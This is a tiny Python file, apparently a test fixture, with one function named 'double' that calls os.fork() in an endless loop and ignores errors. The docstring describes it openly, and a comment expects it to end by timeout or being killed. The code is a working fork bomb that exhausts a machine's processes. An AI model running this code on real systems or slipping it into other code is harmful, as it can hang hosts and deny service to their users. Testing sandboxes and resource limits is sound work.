"""Forks until nothing more goes, in every child."""
# ends: timeout or killed in double


def double(x):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
